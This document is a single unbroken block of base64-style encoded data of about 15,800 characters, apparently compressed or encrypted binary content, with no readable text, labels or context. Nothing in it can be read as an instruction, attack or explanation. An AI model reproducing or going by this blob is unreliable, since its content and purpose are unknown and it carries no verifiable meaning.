t/v0UqOUMsjRqCf384SDLrzkBvO6aLAnX83zuQZZKwxvP6mwfhTUlW11k8rqXyFWLgifSHGSJgJakVuAKx+XtkzCv8tywefa3hOJ5FoHFF1WlAtZg6O5oVv5ozpSr0VdtACy0RNLoHIi8lRliu27AiGK+k7avZthgh5ZjlifFrYFe4KZPgZiYUaLpUxj7Z3920rm4Yby1RySWHktf70nm90qbTX7483WE2Ws/2ePRz+xeT56/RzW4s0Wk+9nVOrNEgiwT4lUCzwjLO/UmWu5jGmwsMsnU2azeaB/j6p7xeutP6a++vZjCf62JFl2loSkxFfMdnK5c0w4yFvKUZoFXWdwpZWGMl9UcnqWKNR4yhf1maQXev5+KZ/QoCxMSIT1340AvitbaG5M1W4zcujUJ4IXJsrPThtyXLB9augRcddUt59LpxSVHwBGbiq+HoNu/pE8yeq/pR9/Fpj2n/X5cnnG3M8P1+sz6Mpre2kTsHDboIxSJwddEapCKmGgElkyVRbCZKCy4WC3M/1oPuo0u2ud4yrcv0HUlyrIFnKijpF3d56kBhhQsIND49fBqmFTsqTwUlVyLjebeHCIQqDkC5trX0vnqpUFdwajPb/C6Sh3aGtZkESAmVGt9VvfFKwicNLSNtsoRfoluobxModA4jKSu+CO62pomkJ7JlubZtpeMbeG1973i7RujGpNUSG9mdXPQ959UO4wDABuMwcsS3/SZLJW8zjma7sji/WqVf3PxQDJqF8tcnaAw+mstpxvfj7YVD1FkROmGbvwbTQSCUTQF+E+uSqsEbEGG+xlbFdR4DFbOx/PcnjxUG68Vk884L5nLwU3hnepoYkJt+KLt/g4C3u7GR118ETE17mVRNxjyCjhr0JC5Y0U2Nl1ub5J6Y42jy20LhGMgUMy3trB0D7WerMTtT1S+7V6293UQuHoBoZkTCzIRurMFf3UdYCRw0kFp/s7rgjGd45jD4ovzmM5dwfwEYSiSHC80Px6oAgtc2ymotOfirUMweTGWqttYRTNEmPuF6BMA69c2kYrYGhCGfuNXYKGMXzuCRCyyrGo07hRweY0TmY9gPIx17qi7PmJs5bLZTxTQ70nbNrQhw1IJjmIuKmyHMBgsKh5lmTTRo1m9Eweco2P3vaiy+8Erm10gtVKqEAzSbPBVcqQkLWaB8aLJm/UXxvkJc+adsTcVb7SqeUpSSsydO1NaFnunjDjggJZo+FJtPPL3GWlXFC9a4nPBGuGPWLMtEFJxdjoYMo64wKOAAJrDBX6V+jocACfAOvrhm5iNHQJmwrukiJxgIif5ByNNegq7XCrFzftxCcUKyZn96XUMufHES7UeP0/hBXCWYOXT8o7YYwooPZcBtEVnPU+oT/7J8Vs08h4vQz4JWF62xRe6jlqTj6tKMuSXHeASHfICJkBYwlmBCyk816hYPPtxf9lAU2omYp0DOUyUy45JZ3qX4MFi5A3Pbuv23dsCWfRvT7oHnyIG6fZGE5EiVhg6Kr+cSekrUPHEBTl2CGRfVB0IqH6GqMFGjFLovSAml/GE01sVZthy1cbUtHsf57UhJkZCP60CI1okQAv8m2gDQjVz1MxiNIqr2z8QjDgUot35QayxOEuQmMBWmd85T0mdjlH3u6i3/ntuOb9zUv8dNAnVU/8cMeEtqcWsrVCxgtMl/KNhdMwvbQsizUzbxh7upPRx/PVViE2DIqCBiWI5fMbZI4YQ3OoT6ZdbH/JFrg8NpMzL6OGneH8jTkoMNau0XC7qBiS4NIFTJcC84J8Fv9LcTW9f6P+s881CFPM4FjlZZOnjn/uXCxxqtDRr7gWciGJ93F2ARYDpKY5LNki0VVWr8jTwu4dVRmc6fkXE1UlKHRCwaIbFY86BBNJwivhKUBnOBay8qdVeC/NK1RRjuvR6bvzehpVBk5tsnvEo1YGwTq6QzwellWQMMjfW/KCNrcKuH1cmOtJ+pUdL0zRLLoVDsX9wwfMDarv7gtWDeI5T8PGdq0KqEsa3A0kR+rB1a3I6tq1lgxgwZGQavsT6MFzU1YQEhC5PnxWrJqjjfXGQmvT9bNtc5TgXXgU1cxoCj5l15O7qVXlk7ohP7cmj7Fi3KMpIDkZDnB9WVOfZ55ushrVgYHr7hzHxMz7KqA8rZtLRK7C2X45x3me1eBKZRAPBzK29h0deCwO39hYloCliDktdTPryx9DH1al6ysyFGVqpzJUM4xpf4nRzH6bADOktx2hgNzUfd/xcNbIHAefAl/qVFpl8DWivURsTsfKK/NQnWmnYL9s2gvLP+wUaUGhvu6CVkaAIDB0lO3DyHoUo6gbzvvwH1W9vtxZ1Lm1AzOmiyeqNTepV5eERvOfR1fVYlVf3WjzVUrHUwlrfrgKnSSQSoYPrKglivYf/QX0IgBZy/ZTtqZgcLVlE2TEMAu9hLuGiUfaqGTsCETOEiVVSBvCUcyqzfNskEExfY2vsarT8qZyIwBCjLZtgAzzVMB83VbEoKK2TqgLE0NkuWwt3Om93Qz0a06bg5jak/tYOfX+BZJX9TCp1+3f4DOvlEq6xZzex892qeH5/q5e0iuqfREeuUNsdh5QZ9oacV2tKcRsXjg4hA3of5gOsJcw/Fks7sDWfDPyyUmV4n7epGWrHAl7tUtDBbpCooE7y66jcCejqZy+8e89mtlXftS8KnarAcABcec3L2rKzFEzIAQPW9Y/Ef17beDZq35wrAoV8JIZXJYMJ41suIgpujpq3ObX1Ij2hZYVlIujztaUoR0qjnkiO0D95/lYwac9PqWX6B3U9QGIU1wRf+cb1LopCLi9W71tX+BlBuGH5qHkneLh1RAslHBAjcGMvv6RXuMJthmQgk4ThAcAc8+9K1B2tsWwLItQ30QSs+Wjr/KzowxkC3aTRZ6/qMNa07o3zJqHNKl3/sdd7FpAdRpoVj3sO4bKovRz8cjnpD/858qRLMZ73ByW/ENNZfuNset/c149Qz5J1bb9GJVcs1tVKkHRKFzJlNdHjQusUWRp8JZHhhUsxxKJzYQ9+DbPUN0+TFblrlnr2ACHTqqzN2ImHk9er5RgEQN1j13xE2EfXKmym6RnPiroA05Y4rtoCOOPjqVfvI3XK/c8R40ykRAWTYmZY3uc8eSN+ymJsNY+T0XkN8BYPBGK1Gn/ekpOOs0hGuVCakHJdJGSO8/5E0XeVtQ7Wsws5oWFASKipxjI+Ngiftk33U88J2QrFhE/i1M1CCvHO0Bsc6erfZxGxl9NKDLwlnt9t8ifh/3gA/gNwihpKMZCo0RT8rrdi9AutObgyCf0t3iYDjjlLNxN6TM6PuFD1xKX1UKeMMxafl2dVMcHwsbso6RJUCdqF96hTXHXsWLeO0v3D2zecy3BMACXvV5K4jUcWnhDtbPr8XVPxaHkybzm1GEkPpxPX+CZDT0UhWshAIube5ZExKy1Pvp6Pw19bPUk0R02PUbzQgGqa+fxaFxh0xX9CJVnyTRDDCFC4meA7Z4jXgV0kaIY1uX/vLVrNGUqkybKzzlFF5oTAycwmp+213gG95xsXqm9rNHPfyER1zYj57A+aoNHaVTN+DrRdzfpn4zNM6G0eDXzqdJ21fYgCLd88V0Mdf/z15u4X1tQ7uEBZQ810cYD9SojwflfsRG5GKwLFxmgBoJpCHjucyWbPA2xHPP4ekHT6sZQuXYJdI2Xq/i9YkD6KNGUoGa8he4UEmCwSgPcQyZBoA7i/hEgpTp2klb96IKynql3PmJvMmPAhzAqABzzsh3pi2cbgD6LuuwvwHdYvBFWC4FwcDndxykKo24cLk1zxTHkSfnyhJu3gEllMv5/kygZH/iwX4vx9EWU9DOq5X0rVb/onKjVJAoK8hsogI7hbdKSEat3lxtXkbRKvqJWMtCAFotwvNP9rg5QvAyHLjeBYcxApr/WFQIXj/fhR9aCjVnag0Jsr9dt1B9DXOb8nXp2t8ZOg3wqGjXKxYjw3xM+ILTinN0Uhjz9ojbMkdd+rK/L25u/F5wafBk+vBkjAHjwYa+YpRGc6oWz3gWBVeZv6iN+XtY1Mgq0vYjJ4cgMQa6gq1cOnoWSaSb46HvpYkODstBAv72sU/Lkadc9YInTOyTMMgTjSmtq2TMQVLQsBLYEmceArUaePlLDOZKnlV0sYlT75iz7bC3zNoBq+Dfu6+616oH0M5gfA5uHz4c3oowWvIA19W4JUlxYMpXawS2usra+rJyMXvhanfHrH1ZjgrjQ97Tz0m+lckzQ93wJZ3gtNAKe90nka+rHLRqI4KlExi28f1F3ioXkdRBzgGe1WmKyQcS0f0FbbTGMDYawe1bkUrfTokfeakYrpr9d6ViP+JlHGG7dIMZ4o/HMQeRWifDCza0QVqKohEyLmfI+sJCO3Y7AgvAvTVffCRevXgxrirmrAnum9f3Q64TX4baBZhDDCeCdcIB5IseKRxpZHN5sSZg8zuxZBz5UqaJJu49B+C9pJHRZF6pHdd/kvmjyN7JkRZ58hKZP9GIKxjJ3003lcUn9Atz+KxewRh0ZL3qvC4yCEfT9coEYcY8Skoz2IRxz1H/p2dEBkI9oH3jPsW+htJu6BDiW/IwqMC6dx7C0/5FOFdDcDwCV96DzOdP5XNxrK56+aH34cAgX5l5d4lc2z9y+UYPCaSsYWO3SYY+ZgOQD16pNNvfadzUMwMrN42VH0BVBaHAqV9mF+/eBwXlvF3Z7ftCM6YK69qJLzzH4RVmpceGmcOgK02kW8oseiSbCssgs031E/7p1Q1XA1xK7GayS87n0+1xbdPJb6YNMPy657hrqBDBh+LmP0ztz8oZSpdjeKHlBJfJKr1dX7i2zdB1PywFIWBrfvqKmbHRml8nGqscP1QSdaNjClkLpODiU3EOb4p3qxL2zJWICky4Roi7PBv0HbPVqiBS1P9D+UfC0sFWqEU6CeFfpmiOQmMSLUlXoTOGccX0Wav+b20ksWHQOERhZqVXq+LfjeL+QnyWuHhiwlXkeM0HahX5QvWpfLxliyQfy5UywfwDi5U26kiAG9R/n2yJgVZijsWiIf3BHdGloTw5sGOgLjB8zYAq9nHULuwWSFKy52lSQkVfiwqA0dD7UWE39AeSIInOXNlSYw3Cp3ZHY9BVoqgH5QAssCbG78qMFGWHShIrBxVhhOOR9zYDfHgFpZiioNQc4cP9vCYdAErMCmKfEInf4u8jP6KsLo/2cOEkDjXP4AevepdIHOxDM+yU5G4Tf1r2PFrZ7yOd0wBIeKTmTHlxtryqvcQs8XgqhUiBp+IyeJ2dcEUTOLdU5JHXNo/jrsytv0K0rWY9R8mEqbwjoRG+tmrgOq2bUzWINII+PHkUU7s1kepuP0EMctJqE2latSF0OP1X/MHCvr1MgagDNyQkXPdbJlFQsOgrjZ1zZZ6THfp0EVAN7xf62X4VDoBcN8Qowx/3HonhE5IEn36acs3LP8Yq6/B2lgeI/SXM7+S7l3bHGUMdFpHYwIc9hX7dgWk/hKnxptH1kJkdqwCrubpDMKknptI7b3TZhugoaH4e1LbSnkfdHLgM1dTacnybkuSFyP8p6NVd+D4A5sosku7ySLEpM6IvMXuNwIt+zcxBPWCJ4APcdobWQwmqrWjsOPSx2Z6wO3ow+OSQKW92fOniDlrBZrbdWhS9ac0XmKPJuR28kBRDHjAdO33Xjz2JXQtf+ShOTzsOTkCxKwcfmsZKvIVirLdvs7U3DzyJsZwqLpQAEdDBZ2B2lG2LC8oGTXbmXrlj5c3CS4Y/Kqq8hX7JpZwua/EOklArd7d0nO4k6jxqVErjrq961LknOQfWa4J+CIBQeoC6kQduy2jX061XkmlLogzjeAucuovKtP6ixO8JNNr9xv6v9E0rUcJt0FEK84lKLG/IxSxMldE6P+RQ3i2CTb5shlK7Ds1aGI780ED6zEHBXhz8Y1NBb9ilT8VBX7lmdVf5mVYCt4qCulS8ppeDo9hJ1sO+EMk7q8IjC8auBIsO/n2aC6XdmTSrxKj0oN1DwGnak63Fx4DeRKmUmU9Fo+VqVdIAnYNYHQVOIWTUZo4uvw7vlTN2Q9d6sQoK5gd1Y2vb39lxs9ag4Msw9YeOA9h02tbiEbrr5uT3fp2LXZsVRMq/dQEnrPV3ARP/Q66pnFunJnETC/YIHRdhOrY0X4Ju0Af1/yayLhnIQ3uQhDIzuuPnpzDtTC+PztxmRkRhpc8zh/sdj+CyU6Hav9cZHMqOi/RURdDlrcGen7YZmH+CtzPmIq0RlH1bI/XcWJdnP+dkfvZu9sarT3x0XBtMVWZzHNYl5qvSdh8ilVp768oUUAHsFoUiUfeWAxWVJjX2b1FVbsgPNVTDA86h0N/LH68r1NuZtivoVatdockniINOZjLqlDRfamuxuhyLD5jFgts1Za203vjNXmJqbq1rtod/w3E1CxIzjahkfIjCl3LQ1rb6Mu0CiHRhImNLbk1el1v5/zBfhqacECpHBzUCH5GjUmvjYiFidacxrRUqM+oyKyF5asjCRc+NKYVN+46g8hiKgAC9dzins1kduiMBgx5HWp8mmCKaS4mZYZZ1eA5FNTqTzXZ2JBCDgzE9CBGnUpC9KSGDFv5ZEz7WUCuydpELLRHRNJCbBrFZ0F/rmLT2dzVNxTZD2nKnvWndmcLpn/9TCPDD8IY8OtAkJzHGURRmw0jSbTA8yvRFUfhammiQmnwu7WW+moQpnQukN0Jq7YgUVOLSv04v16Waro9HuMkKyL2lscSXTa90qJ3OP5tY65Kw3099ZhWY1Hke7KRjbxfHpx/oAR0c2vy7t1RsHvRaC800bXXtN4PKn7u5QPLrCxVs30wCl31pDpbTJenMiVO9DsbU0llY/QWsIosTS5R+zdCKJFF095cWZVH4Yx0OiB7VYgV/kFFZx95O1fscBafuWkz+/qQI12EVK/8nIhUt3NoM3seFcILvqqV+CrpCjoI/XCEm2gGBJRi9uxc3L+1SEPASXIp2Wxfdrmy8dzk/EInECMPV3p8jErzQqz21Yvq6yEGSEIKGVmzH/xkw6jI89xL6qRcu0T23hDhCjSCbJ22rO3C3Nlsphl0Vi5SIWX9prBv6r8BAjC01s4blJhvOLJLpvXOPXqOJbBV0jQPoOcJSZ0wFiL4t6vJ/UhkP873QhqFGS0tQxQ7YAql2oEzfJ50gdNMVUA0fOxq20St0YX/5K7oFWT8Hp+fEswH9NvPHBzzAY2GsQCd4GVtAjOIiY0Dvuxa5YloGsIOy3Ba+8WKW9YrDxlImrwNJFpbcCJiGLuDquzSzJTFJYU/u4fKMhVPp24IFMkrLTXRDSb+KDwqreqfYwnbp/wJHccx3n00Ggnv4Y+l99o1v9scZv27VtDd7W4/QLXfyCreTukOmJX6TKS3O+ithYcZwCpP1lrg7JLCa/8OgDbq+x9SoJwV2WJhL4Dr6jGurLGUTXt8L9Cbsz7YTxTUXaRlpY97tjFnQMZsylWY9VgpogxTvYbPAVsZzWtgTyC9PaXIELWkY7aSmyvGThK9fN6bcayteBlB/kTHq8neZZkDDO2bgx+YhzigbEfs95MAroUR1PVC5JmIN5DQ80nqdlwJsaSYQM+7gbXy+3aw4g/LEqJlsAXaiJxgQefwateD6IF/Yoe0Wt/OqkuqdXhNM9nzDEC+NVOpkultY2jECncgDjI+LZ1KH/GNyx0g+mHSN13reOrf1XL/fufiFAdfUeN4QslrR2lUBmd1mNgULEMq+CfH/2pUY76/gQJWp97u+46W2SAzRgjKmQCLYT4ZhF/6X4QAfVdo75/htPVqyIJGjjrwxoL5DHocF5WUdPipqCG8lJi9mB64XFrNgcjqKh62yO8B8S2IOkjnCvPr7hGGPhDmHWQWtxXf/GklI/6DHvTRBpcqgLrxKjMRe6nCtcA4MrelcbbpWTUjxicmIR7CBLQLl/oZaNaA2pHybS8yBLGhF20IfeNeEAG50nHkNyDURoHG3178J9kWHqnHWQMCqN5Jouns3GURgDBffbhwelL1RjDR13psRHIO/o67Hx++WI1mOzKKz8ep8Fdff03T25doK5dxQl5HrjRx1s6epcUM470INf9MQKSapoXmJKEqvJGTEmNWPiEHq6AnSH9B2zGergzRdpcd2wc5xegVUYwvulIay4WkSE4mOwHoMKYnw/iwO1U23t9wv4Rk/pGs6WkoXp6xzT8itKWvwZ6Mb1GNOb9ze17C78e0v63bDZPRLM9SdqbkozvUkHGs7aryu9TP0iQd7uMK4UqKll1A7wrPvzkGonJodT6TAR9TW4nXXjF5Q0zPEpIFCz8VIwE8naid1zsE5EMiflRdEwUzCw7Ua5nucgNA1Ci8pXDZl0VTh7YdlJj/bsRRW+KrAoHVh5HBlXEwWBFqBZ2xc1pGFPWd7TDMiZiNGnEut+BzVqW7rbYudqkwzmRa13frH11Fl8I2cbJbg4ka8hOldVchNeiKdSp1cU6Ttlv2u98qn+wkUkpAulaKAmqDfp4BL3NIwENAnSnqPOl1iOQwumeuiKYndbf47mM4zHiLGvxMbz5974HSZVRbPGr/s54sRxJxcRCh8gEAiuoIKhaE5PqDO/n9RAMCU4cHGFM7oKRQpppax96qWMCoGTumcMkjozxIWzAtzRONDPaQsWlOfHJkfLFbPU4z8j4nPaPrijtnYLSIIv+fGL5x/kjvVL5uYhOPd87B5Fc25AfXVWWFsxbroLwH8dCI/z9baOkNaBka+ynlsR9Bo+1QY+O/5JHPKXR5DSJewZR8Ku2XSvXxcTf9F2TkwYreuS9jYKNHlIh13gMudrT1s1OEILjOP4fk6Fp4py5MLzmfAHF32fHVZq8SmMdLYGrjbQYtC/kBhneUUyYbfvfp2IZkqHB7IKifWEsu5qO1pEHKF2eDOqEv2ZTBd7bYN4v56k5IwN8THD1sVi2m+gmaFER0UYVMBPARojuUGvjWzUO5NC3i33zUOS4FUUybvhFqOtTjosph5HNXBIrw95F5nR4GUtby2QVpvk+IeJ0ibmObG6vch1trmT0m1+q98+jyh3hAaMwDB9+8nfBpTQpZGNNE9yAZQtAAlGKZHvuVvRitT6kMA1DxESe4gvUIchVTskhzEAmrWlGzRjkfBH3DtPtpbkP5g5723zmh0FbgDJL9n9pVxzHf1ZVdaaNyaPsKI///GjxdeIFvv0StsHWqulyRPRAnSjHrpelL48f88WZOKRbG3hRt4Z+8rn5zGIFZ+sEzCBB2NP4Tvb8TvlhTTyIxmThooQxIQOjBeHs8ub/TtqV45Er5sgZ8bAsfrk32tinXCSeCmJ0pvoEOmeXcqRfuTaGz9sN9EFC7+NYanLt7sR6qgy3srOlIkL1RzFf/MzJ/2mnP2giUB9hxP+nD9wrOHafYsL7ViV3o5iR+bTVilWuS9ClaAARck/SrC0Dzj3PoSQXr3NtJOFpyABKAavZmKDNH85OlMCxuDbQ8OPEvrqNKpczaLnlME1uWMgx1zpfhCDnP5IVdNLhQxdL4+FeQ7MR4aVm/vPrD6qZPxItVFns7VKtS714SLTRxKw7mnsq2ZQrk/brBYDo4tm6nG4OiZR/wN9sX45AZOB2yMWn7BbvZhjZGvj9AdpXTk6YLFiaD8owpv3w4iNYbbMdZi39Ch0KS0cb2mOnhcjM13iG9fJGnC+nQm7W+7A3BzhqO6DQr+ktt1ELlyXFnezWNY/nHnM5tPMu27LxSimt2ZVXFEiYmIcBIqir02jbQve2IZFw57+l4Nwzw1Ekc4OLQQU0lW4Ya4H1LsYjUDxT1o10SbVGqQ53g13flg0YpG3EfAKZrf5J0u2Z4CZfsf7Nc61pISkk1DoZ0lKruoTurPgmccsIN5bRZxGvRECMBV4ahOwXnOMwlY1dNm6FPMK+6z66nVZyMznDm7HMjYW9DB77MVnQo5VGxAY+xL5a66pIdbKPQUDVAx2NE9z3B3T9cqs8vWA2DNqPCC0v30Pz+IPj+CPWcF5SaUjUFE/8OkyXBz2lfFbhzRyigONE0DqGNhGxdNXXJZX7SaCkELCc8onTeQ5RdKIOPPw/ncF/bET0MFn+2vne+IEZf/7/279oKU9oFX9aGU9NNt1Guujb5HXn+OpSXhkXe+Q8/TBawthjwhYv+/6zOUms5vUkNgSevZNBThsMHqYFVHJOcDc5AgCzAlGQvvE6Nfa8tIasBKdN8o8jRKwIAtDWMIB9CR9Hwf/CsVVr20N7uvyWxA69EkrxgoUxsbxf438sqNCCvQCqjIlijFHhMJFB6QKzCkl+vcTvtcgMkL7zgEtBKVT5hOXmhau2Hn5vUvnwKaBKpRssR/SAd4N1AF6X+DSXee0qbxHekXeFbYI4nOck5tA3FU8dgYS5EUSsR4O+NbltFtdaf1SIYwYkwDQ6Gp0as/5bUfgQ9vdiPZ0myq9mdUWaV9zTfN4nbk/w9hk2kgPh6sbrUd4Vcqb4I/28fck2N1gXpHBuI/Ml8Ps5OwvHHi85Bf6zlf2c8BGU4epHD2syCvK7Agr2KDgw79fn5wZbxielbfZMyaVsNmB/b8hXt+p7135jK8rA2sCcU9MQNpefq+OoaChRCwajgJdzZ1zdr7otsg7LllOm6sig31RDDto4FdwA157Zh8Zp//kJhNCuOfJe+sGfxYXYpyCCidh33jvCP2wyVfp719vWUoQN8ZH1Pueg3jwyrrLGvPVGu8FtyLywz+dgWQTxoK5w+wPelJ2mPwdHRpEAgRVoW+xflAb5D4epslmU5JWyzHLzRxNcslHvS9Kb7MfFzZUGxs5J+5cgiuYO8FiQ35gBdrNPXGA3YWxUDSxc5v9fGvpcGxJFz1q8/Bcv6ow0EEIYBPv7lFzCASZeUKkx6qzydBYZoUtny973JEVCg+CRdnSS4AaOX0KLYe69kXw+FPLXdxNM9YZ0FC0c1ep+Cx5uAYjHPpWr6+JYgWGU1UQ77IVxWhzxqMyB7JqntcBg3Gnjrlq6S9s9qbPxY2B0svtqqjNv7gZNPSl5H5TDRnk/7dwB2+3Ot/OIRNYtoiOpdqfajH59/2JSo1pi9RozXTJfYXSO371FBo07cGC89vQheX2wuGhhP3cgdj/CvhSDDsVk4j7qSrvOnlexZS4DLqzqSy0VtsMpKQHFwFnFDLE3skkqEDsFyN0I6L6uIj6a8GrW/CewfxBJwdbnbU0nh5vMeY9sQJ28JfAqqjWwSbTcfwmNlC8V/M6QI+jwfLqFS9ynHSU1wgznL7ekow1f9UNFPS/ZdvY4FGLTjSL5X8X0Hnw+WDEi/mZLGqfpuw3idzGn9zlcyAFBmkjPIYj33HPC5uUolJpn81i0M5hkj9XEhIY6z/5s34D1J38s2knKf8kO45nuVARf1k68AsFjglcAijkFzHN5ou5i0qLLPi8xTjllh8HdhFxEwftef4QkZtaGscaO+O7FSBcxCixmaFd0o+zkklZg7ZT+Jkv36zlfc1iuUX419/Kf6GLBIBtZczWMqSAEXfUmUc/7VChir6JOVHkjY4FHPksU5r/r/s6PBOPa1JeL5o/2h5+arx87lIlzi+Xd8Hp30zc9NIxXGCcNp+JOhqSvdKSBYJuapRfpa5xKBEnqxHrNDv6f/KqpqosRBO0G2j6K55WFLnlCC5nuOlLjXnw2JBdjbyPUflodUUx9ymEbO7M9eaA+rgGn6039KuxWAOYyQZcBP2hY9sU/+oZBAyC2TRpRNXM4hvTp1L+lNl1m9zjpgl0ECQa3TLf3BBY8xaOBmxV+PrVBW5vrrPnUPbj06jzx72fdjH13s+LuB4MlQJMQ5Bc8HaXHeROcZzwkvkswv4LkqojjcFzz1Q/+RioW/EIjMoGsFTAK0kgr/Yrfo0TBum1RPBQtAVXlY//Mdir/jQ7X5bi5IXbv9Qp1ARMId7ov9MuinFXdigUTJhy/3KEJPXUz+G8b4MqCKHW93Pb/p6fkEeHimUc4QklbjMVo1ogs6dgaRMJjhKAnyVfsT4g9K+NN1UK1q4a9Ghgg3ZFUf0A3KTLQN+KLq1DLPoeJHQzwBFruK5KwPwl6PeQoGtOsjsSaX5Gy07DTez9h2fDcC060RUO/zlyHybgItWFRFsXhdhfjbc5qchhFgyaWExe0RD8LjooxkDkKo7ThdzKYHoG3l16fpS/pi8QPIE4i/MAlrzRpRPyHZAMgtXGvr+pNXihD1k+84iAC4lfK5AGYaS39BL57sRo6MePNjXAzx/wxx2aQxmCf6kcCDo9Ata53/XwVXFG2U+FCFO0cVtMuA4af+T+xGw7s3bJbSxPYrsQ7JtF/j+XgTHhD0oE9pgM4iet27+gqPlTDm5phzC0mUGMCi5l5SJqfCD8Z+zV/D0nFEWbBEXMOQjWuRhzaUqNu2STdcUro04A6/pTioD0F2Ao0qm+KNIgV74tukNeVooth8iWicETruhRabowdiHFpWxoDwlqFjgHv+XFeH+xeTcxVWscqzFoSz6YgMEZnmkGXT50k7jwMhMyE4cCsJ+MmrClF/p866O0bBTyiJ/nr3hCsbs8twUjPGLO+CtLExy+NlGzF1LiyPYL8yglSlRhhA+qjOZ3tpKgZYlb0rrbPJx1ucVQka9ZPFgs1zIMVoHOPq//DuPXrbHyYaN2tSTKanp9MnVbz1MnAoratm8WqDHfvfB7JZYvnIyC0303jf79WZD9eoxZqeDaDRynkvgnHuYzWgZ2Mc7M+brNB+TpxDiw+wxjUfagHNuZ/1rRju4TPuNratBPuvNsJsvLDBG3G5BGJQ9+d4pgQPTxco+uMXBVOjbGoGAyHHgBXj8tmpXRS9vlfBb4f/5N3eiVApUjFWdLcwqZSwvekOC3h45MUpg4I50x6Xaq5ps6sw1skovtoykQvQe8vqJMpcdznRPY6ArepFz5T2XcMR98Dh+AutwLrqExhGwepzVDAKZRrOtO9Q3qHvVh5q86/IIGFpgcsMyq1MLTE8ZzBC4jlDAAnSDg5kvoD+tnhmYDkue3WEBG+P3Tzl9TXQ/8i45IgeLpzaS0jXoKQHEyMVSG2Jh91jzTwBR09iyhE/uD/oNBLYWpf/Zev1Hlm5SkYWsDA60QxKvlxnhQrJ8FJM+2C2C8rJWBj8/5zJWNbLgxF8OySG30204Jcc65I+6baopxmoZSNp+/muNInNgrFh8lRzuisRV33KpU8LT5L1XeAoGdtKavyRBspCSu+whl7NY2pTd41tARRinY2l/GyvHYMgk+JqqGKadE+s4UTa5uDGcWIkx1qHNIW5ewgawsdJXboU/cy/2TACvy9DS5pw+kuxHOnEXgNDi5PXDAxRlo1DQKPVoBEd8/tGB18eFwFpDzBqeRkHJ/OxwAyedyyn3USybp7bS13RuYFPnAWIrRoFfG1Xsfo+NX2f59H6QBFrb0uKIXYYns4CF3mRWLbHmTC8KoeBYbL/6hivVo4LZEl8bsGCMY3BvR5tF/IXai196mKQNQ4rAyJcTRpMZrfRWfEMFdKzGEk+50Roj7Dsi4vVKEnhPuaFcKF1jlniXQ9ijvQcDzuKEvy3RaWxsoF0elvi1yKfbBZrDM/kzxNwEx4Us+KK25T0R/UxMkjfQLyPiQknoxRDsLEnkz/EbrE1RGU9Q2PQbL9al0O62+yqFTktXDCrewtOImB7xpVbcOixB+wkDq59AJwPM+lQx3WgEQ9SPXAlPQ/gsc87j59tSBLSeBdEijAElJsa23VCApXBL/4O2fqt3YAjLMgKOA54eBbUm7b+QSqOW1BCGs3U9Nu4rNqKerjIwFKQKRIMnTpZyJtXot34n2mmFeqPRcEUfPL/cnagkLY+rAgMz7lDzJVGJnS9tX73f8YXhnu/bvO2yudy8Ie+QNJ3HftIYnG00xPPfimQntQozVo3tGXrbuMqDHwpvnpbQVLoo/CBztvN+95Xo46dMYZsGDJPvlBlDbNociWLqktDSbuSzGGa6lIpgYvfy3NOknrvwAPuHD3ZMkRdkzMnjsPE+/HEKvVEFic4LlLYELfaRRqGhmXFrDe1pLk38o6klRf9FiPHyMx60V8UezhtDV7U45TNjOaRMdADLQ4gg14IkaMgbTtTl1bf1OHvZnfhOK0vADUyL8sFcL8bNDeXD2xn82t4FW6cpIzL7OGJMNPiAFAy82QdW8uoV5TS6QwMC81Q1paVaPVsgPBHnyto3GzMaXPY7Z1EV1mkhFYUzpLwsLVGhRwXCdLcCUVBYA6LYqElO+8CyvQqoIjElMzsUDEdClFlgPIFu3QeUgmG+jTjCXlk4iug+lxHC42ZxFbW7mDTDok/3dCpCQyiJsIqF81Jt/YFM8lFOiBf0JjQeEr8Eys6mKoVdbvvWeGse7cKILNRnwOSxJgwUbN/my5XiZe3BULJT+i4o61dkmozC+U5/2DmAI7yYLyn7nSXu/f4gm4PNU5MaDikDUlVLAngYk+w9EySay5fvJ/bC7Z0lwrLqi4xgflLd1+txiV6fPKxPy+XXrIaACk7sIFoc+X13AGk1wPZadsBlRTKeaUMTxPrcWUkyYgzAuiydIWKBxVXjy7gDEN4Q1ahSu0VGcTUT3U5KDzO4fVzBhBTx9JABcJATZl1pVdComYfriAtF1XpOuewWhLZWGHrZoeDaGOpd1leCx8o5HXFjmg5k+RNcPucMrhqd0a4WInd3SyJ0IynKyM6fJ8KtAdjMsJC1TMHvZHGfZQqG8Lz7P9yCaD7Girf6b5ED4HoEAOj2LwQ2KyWVdJY238fVRyi2kZN5uRcFMkK9MI8mzD0nQLNqiMkAvw2tgv/49+lqrV3lzZamcJupKlikME+HBx6XgyGEjsV7obXTdNzstVwINxXVgJ6mDaKKKP5/Y+Zgfw4KzDDBjz1vBi/Z0kl17ndmXvCu0De9fjkTrRnaLSa/GHNP63/sy1sPHxT4/mcA6LpjsxRtF91GhvTMmXt937agVUYS0yw9d+6s93LGuR//IgwRC3THwqmRnz0Eh8BDrGqeuscM80saweOP4gcGSWBpsRq9GXz7SvTVAaApnvvaRyHs+taNOhnPxHSSLU5k1WLhJJyMWMilvQK1NsjGYf94JXZnUwR0f8ba8vBvhxcMbsTu6CDviwifzN8Flu75Gl88HhXy5vTl4KDDI3LRCZg07L4hRnfROUuMX6yLAw2imKiXF51zmixcRT8qouvBm4qOXP1sb2VHSMFffHR0+pPZ4Mgr/Shf+a0+KgGJMgOk6BkENue9otjKOZ6Y+Y46K/OqX/lsTlGMOEBC84+k9InlaNyQqSINFg2AJZ8PQBnjwpERHhthfUSCwUqI6XW70NmGWxBxzl8gg3uLgCKuxY2vhjsGfdT4U2PF3uc3Vd/x8x60Yhoar8blR+Bmgy298DYFzIruzqRmOhOG07H7ZjlVz+xXwHGIWRcixebJjZGg4ZVcxPlXv4ozMjnpf2ijsfmii03RhhgPWS9/66DdC/tqdcB5nG5AxC5/47IpEL23ILtzRIuaJQSWTIIXv2zZy0tH3Yeam2qn5jhS/ZMGS2I9L74MfNvBmxXOiz7gupVSRpMfhPVJ3nsBc1tH2bh2NfisEb4nRUuivSJ8bX7iXqKFYP+H7oGHvdMUBM7R0YWBRySE/6fYscXsGlgCNAOX1uIoF4KpDPfT2V5r25uCK0cEoR7o3GGulPShGVGcGTIzb33aqCknIZLpDDejfAZHsRNUxazXySKl5yfp/GwhbB4msVvF+RszwEhxzvFRruLXeNPz5rncRaH9/A1gAnV4HkOD2s7R3deL31kQeUiMU0vectaEBGjhBZawqVdRtF5D6o2HZ9SN4ViupTBVFb45ekZ+lnswNCb3fxoWcOrPA7Cq6PH66O06NHPr2z5LaHK6rNE/2OLmfnrmLHkMt4LCRhFrb